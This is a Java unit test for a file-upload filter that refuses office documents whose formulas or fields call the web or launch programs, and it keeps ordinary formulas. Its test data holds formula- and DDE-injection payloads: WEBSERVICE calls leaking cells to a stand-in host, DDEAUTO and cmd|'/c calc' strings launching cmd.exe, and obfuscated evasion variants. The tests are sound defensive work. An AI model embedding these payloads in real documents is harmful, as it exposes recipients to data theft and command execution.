package fr.preau.resource;

import static org.assertj.core.api.Assertions.assertThat;

import fr.preau.resource.file.SharedFiles;
import fr.preau.resource.file.SharedFiles.Given.Refused;
import fr.preau.resource.file.SharedFiles.Given.Stored;
import fr.preau.testing.TestInstance;
import java.io.ByteArrayInputStream;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Formulas and fields of office files that ask the web or a program. */
class AskingFileTest {

    private static final String SHEET = "xl/worksheets/sheet1.xml";

    private final SharedFiles files = TestInstance.shared().bean(SharedFiles.class);

    static Stream<Arguments> asking() {
        return Stream.of(
                file("a formula", cell("_xlfn.WEBSERVICE(\"https://a.fr/?\"&amp;A1)")),
                file("in another case", cell("1+ webService\t(A1)")),
                file("behind a number", cell("WEBSERV&#73;CE(A1)")),
                file("around a note", cell("WEB<!-- -->SERVICE(A1)")),
                file("taken as it stands", cell("WEB<![CDATA[SERVICE]]>(A1)")),
                file("after another cell", cell("SUM(A1)</f></c><c><f>WEBSERVICE(A1)")),
                file("a picture", cell("_xlfn.IMAGE(\"https://a.fr/a.png\")")),
                file("a program", cell("DDE(\"soffice\";\"a\";\"b\")")),
                file("a program, as Excel has it", cell("cmd|'/c calc'!A0")),
                file("a server of figures", cell("RTD(\"a.b\",,\"c\")")),
                file(
                        "as Google has it",
                        cell("IFERROR(__xludf.DUMMYFUNCTION(\"IMPORTDATA(\"\"https://a.fr\"\")\"),1)")),
                file("longer than a formula is", cell("A1+".repeat(30_000))),
                file("a name", office("xl/workbook.xml", "<definedName name='a'>WEBSERVICE(A1)</definedName>")),
                file(
                        "a condition",
                        office(SHEET, "<cfRule type='expression'><formula>WEBSERVICE(A1)</formula></cfRule>")),
                file("a check", office(SHEET, "<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>")),
                file("a sheet elsewhere", related("worksheet", "/autre/feuille.xml")),
                file("a sheet above", related("worksheet", "../autre/feuille.xml")),
                file("a sheet of another kind", related("worksheet", "worksheets/sheet1.dat")),
                file("a text elsewhere", related("officeDocument", "autre/document.xml")),
                file("a field", field(run("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""))),
                file("a field in pieces", field(run("D") + run("DE") + run(" cmd"))),
                file("a field after blanks", field(run(" ".repeat(70_000) + " dde cmd"))),
                file("a field after written blanks", field(run("&#32;".repeat(30_000) + "DDE cmd"))),
                file("a field within another", field(run("IF 1 ") + begun() + run("DDEAUTO cmd"))),
                file("a plain field", office("word/header1.xml", "<w:fldSimple w:instr=' DDEAUTO cmd '/>")),
                file("a picture of a field", field(run("INCLUDEPICTURE \"https://a.fr/a.png\" \\d"))),
                file("a text of a field", field(run("INCLUDETEXT \"\\\\\\\\serveur\\\\a.docx\""))),
                file("a formula of an ODS", ods("<table:table-cell table:formula='of:=WEBSERVICE([.A1])'/>")),
                file("as another suite has it", ods("<table:table-cell table:formula='COM.MICROSOFT.WEBSERVICE(1)'/>")),
                file("a program of an ODS", ods("<table:table-cell table:formula='of:=DDE(&quot;a&quot;;1;2)'/>")),
                file(
                        "a table elsewhere",
                        ods("<table:table-cell table:formula=\"of:=['https://a.fr/a.ods'#$'a'.A1]\"/>")),
                file(
                        "a table elsewhere behind signs",
                        ods("<table:table-cell table:formula=\"of:=[&apos;file://serveur/a.ods&apos;#$a.A1]\"/>")),
                file(
                        "a condition of an ODS",
                        ods("<calcext:condition calcext:value='formula-is(WEBSERVICE([.A1]))'/>")),
                file("a name of an ODS", ods("<table:named-expression table:expression='WEBSERVICE([.A1])'/>")),
                file("a link of an ODS", ods("<table:dde-link/>")),
                file("a link of an ODT", ods("<text:dde-connection-decl office:name='a'/>")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("asking")
    void whatAsksTheWebOrAProgramIsRefusedInWords(String name, byte[] file) {
        assertThat(files.take(new ByteArrayInputStream(file)))
                .isInstanceOfSatisfying(
                        Refused.class,
                        refused -> assertThat(refused.why())
                                .containsAnyOf("formule ou un champ", "irait chercher")
                                .doesNotContain("abîmé"));
    }

    static Stream<Arguments> fit() {
        return Stream.of(
                Arguments.of("a sum", cell("SUM(A1:A9)*1.5")),
                Arguments.of("a link", cell("HYPERLINK(\"https://a.fr/image(1).png\",\"a\")")),
                Arguments.of("a long formula", cell("A1+".repeat(2_000) + "1")),
                Arguments.of(
                        "a text that says so", office(SHEET, "<c t='inlineStr'><is><t>WEBSERVICE(1)</t></is></c>")),
                Arguments.of("an empty formula", office(SHEET, "<c><f/></c><t>WEBSERVICE(1)</t>")),
                Arguments.of("a function of such a name", cell("ADDED(A1)+CARD(A2)")),
                Arguments.of("a choice", cell("IF(A1=\"oui|non\",'Feuille 1'!A1,2)")),
                Arguments.of("a sheet", related("worksheet", "/xl/worksheets/sheet1.xml")),
                Arguments.of("a text", office("_rels/.rels", relation("officeDocument", "word/document.xml"))),
                Arguments.of("a page number", field(run(" PAGE \\* MERGEFORMAT "))),
                Arguments.of("a reference", field(run("ADDIN ZOTERO_ITEM " + "{\"DDE\"} ".repeat(20_000)))),
                Arguments.of("a picture of one's own", field(run("INCLUDEPICTURE \"C:\\\\Images\\\\a.png\" \\d"))),
                Arguments.of("a link of a text", field(run("HYPERLINK \"https://a.fr\""))),
                Arguments.of("another sheet", ods("<table:table-cell table:formula=\"of:=['Feuille : 1'.A1]\"/>")),
                Arguments.of("a text that says so too", ods("<text:p>WEBSERVICE(1) DDE(2)</text:p>")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("fit")
    void aFormulaThatReckonsAndALinkThatIsFollowedStay(String name, byte[] file) {
        assertThat(files.take(new ByteArrayInputStream(file))).as(name).isInstanceOf(Stored.class);
    }

    private static byte[] cell(String formula) {
        return office(SHEET, "<c r=\"A1\"><f>" + formula + "</f><v>1</v></c>");
    }

    private static byte[] field(String instructions) {
        return office("word/document.xml", begun() + instructions + "<w:r><w:fldChar w:fldCharType='end'/></w:r>");
    }

    private static String begun() {
        return "<w:r><w:fldChar w:fldCharType='begin'/></w:r>";
    }

    private static String run(String instruction) {
        return "<w:r><w:instrText xml:space='preserve'>" + instruction + "</w:instrText></w:r>";
    }

    private static byte[] related(String kind, String target) {
        return office("xl/_rels/workbook.xml.rels", relation(kind, target));
    }

    private static String relation(String kind, String target) {
        return "<Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\"/>"
                .formatted(kind, target);
    }

    private static byte[] ods(String content) {
        return Given.zip(Map.of(
                "mimetype",
                Given.bytes("application/vnd.oasis.opendocument.spreadsheet"),
                "content.xml",
                xml("office:document-content", content)));
    }

    private static byte[] office(String name, String content) {
        return Given.zip(Map.of("[Content_Types].xml", Given.types(), name, xml("a", content)));
    }

    private static byte[] xml(String root, String content) {
        return Given.bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?><%s>%s</%s>".formatted(root, content, root));
    }

    private static Arguments file(String name, byte[] file) {
        return Arguments.of(name, file);
    }
}
